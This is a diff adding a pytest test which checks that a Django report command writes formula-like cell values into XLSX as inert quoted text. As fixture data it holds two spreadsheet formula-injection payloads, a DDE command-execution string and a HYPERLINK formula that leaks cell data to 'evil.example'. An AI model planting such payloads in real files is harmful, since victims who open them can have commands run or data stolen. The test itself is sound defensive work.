@@ -57,3 +57,25 @@ def test_report_lists_the_institutes(network):
 def test_an_unknown_region_is_refused_by_name(db, tmp_path):
     with pytest.raises(CommandError, match="region: “Atlantis” is not a UN M49 sub-region"):
         call_command("report", "--region", "Atlantis", "--format", "pdf", "--output", str(tmp_path / "r.pdf"))
+
+
+def test_the_xlsx_report_writes_typed_formulas_as_text_that_no_spreadsheet_runs(create_training, create_organization):
+    import io
+    import zipfile
+
+    import openpyxl
+
+    host = create_organization(name='@SUM(1+1)*cmd|" /C calc"!A0')
+    create_training(city='=HYPERLINK("http://evil.example/?"&A1,"Click")', host=host,
+                    start_date=datetime.date(2016, 3, 1))
+    data = report.render(report.build(Filters.parse(country="KZ")), "xlsx")
+
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
+    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets), "no cell is a formula"
+    cells = {cell.value: cell for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row}
+    place = next(value for value in cells if isinstance(value, str) and value.startswith("=HYPERLINK"))
+    host_cell = cells['@SUM(1+1)*cmd|" /C calc"!A0']
+    assert place == '=HYPERLINK("http://evil.example/?"&A1,"Click"), Kazakhstan', "shown as typed"
+    for cell in (cells[place], host_cell):
+        assert cell.data_type == "s" and cell.quotePrefix, cell.value
